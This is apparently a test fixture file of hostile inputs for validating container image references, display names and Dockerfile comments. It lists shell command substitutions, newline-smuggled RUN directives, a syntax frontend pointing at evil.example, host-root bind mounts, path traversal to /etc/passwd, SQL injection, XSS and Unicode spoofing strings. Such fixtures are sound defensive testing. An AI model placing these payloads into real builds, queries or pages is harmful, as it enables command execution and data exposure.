/** What somebody might type where no package line is asked for, to get out of the field that it was typed into. */
const lines = (text: string) => text.trim().split('\n')

/** Ways out of a shell, a Dockerfile, an argument list, a file, a page or a query. */
const escapes = [
  ...lines(String.raw`
$(touch /pwned)
${'`touch /pwned`'}
; touch /pwned
&& touch /pwned
| sh
> /etc/passwd
foo>out
\${HOME}
$HOME
%HOME%
#syntax=docker/dockerfile:1
# syntax=evil.example/frontend
# escape=${'`'}
<<EOF
--mount=type=bind,source=/,target=/host
--privileged
--platform=linux/arm64
-v
--
../../etc/passwd
file:///etc/passwd
ONBUILD RUN id
FROM scratch
RUN ["id"]
" --push "
' OR 1=1; --
"; DROP TABLE images; --
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
javascript:alert(1)
{{constructor.constructor('return 1')()}}
name,push=true
type=local,dest=/
x\ny
%0aRUN id
&#10;RUN id
`),
  'a\nRUN id',
  'a\rRUN id',
  'a\r\nRUN id',
  'a\u2028RUN id',
  'a\u2029RUN id',
  'a\x0bRUN id',
  'a\x0cRUN id',
  'a\x85RUN id',
  'a\0b',
  '\0',
  'a\x1b[2Jb',
  'a\x07',
  'a\x7f',
  'a\u202eb',
  '\u2066a\u2069',
  'a\u200bb',
  'a\u00adb',
  'a\ufeffb',
  '\ud800',
  'a\udc00',
  '\u{e0041}a',
  'p\u0430ypal',
  '\uff41\uff42',
  '\u212aeras',
  'x'.repeat(100_000),
  '../'.repeat(30_000),
  'x\n'.repeat(50_000),
]

/** For a base or a Container Image URL: none is a reference. */
export const hostileReferences = [
  ...escapes,
  ...lines(String.raw`
debian AS x
debian:12\
debian:$(id)
debian:${'`id`'}
debian:\${TAG}
\${BASE}
$BASE
--platform=$BUILDPLATFORM debian
debian --mount=type=secret
debian#fragment
debian?query
debian,ubuntu
debian;ubuntu
debian|ubuntu
debian&&ubuntu
debian>out
debian<in
"debian"
'debian'
(debian)
[debian]
{debian}
@debian
:debian
debian:
debian@
debian@sha256:
debian@sha256:abc
debian@md5:d41d8cd98f00b204e9800998ecf8427e
debian:12@latest
debian::12
debian:12:13
debian/
/debian
//debian
a//b
a/../b
./debian
~/debian
http://registry.example/x
https://registry.example/x
oci-layout:///etc
docker-image://debian
git@github.com:org/repo.git
user:password@registry.example/x
user@registry.example/x
registry.example:port/x
_debian
-debian
.debian
debian..x
debian___x
Debian
registry.example/Team/Image
`),
  '*',
  '\\',
  ' ',
  '\t',
  'd\u0435bian',
  'debian\u200b',
  'debian\u00a0x',
  'debian:12\u202e',
  'f'.repeat(64),
  `a/${'b/'.repeat(200)}c`,
]

/** For a display name: none is one. */
export const hostileNames = [
  ...escapes,
  ...words('-a a- .a a. a..b a.-b a-.b a/b a:b a@b a_b A \u00e9 a+b a=b a,b a*b'),
  'a b',
  '__proto__',
]

/** For names and descriptions that people read: refused, or kept as typed. */
export const hostileTexts = escapes

/** Comments of a list: taken, kept as typed, and never more than a comment. */
export const inertComments = lines(String.raw`
# syntax=docker/dockerfile:1
#syntax=evil.example/frontend
# escape=${'`'}
# check=skip=all
# $(touch /pwned)
# ${'`touch /pwned`'}
# \${HOME} $HOME
# ; touch /pwned && id | sh > /pwned 2>&1 < /etc/passwd
# "; touch /pwned; "
# '; touch /pwned; '
# --index-url http://evil.example
# -r /etc/passwd
# <<EOF
# EOF
# RUN id
# ONBUILD RUN id
# FROM scratch
# --mount=type=bind,source=/,target=/host
# <script>alert(1)</script>
`)

function words(text: string): string[] {
  return text.split(' ')
}
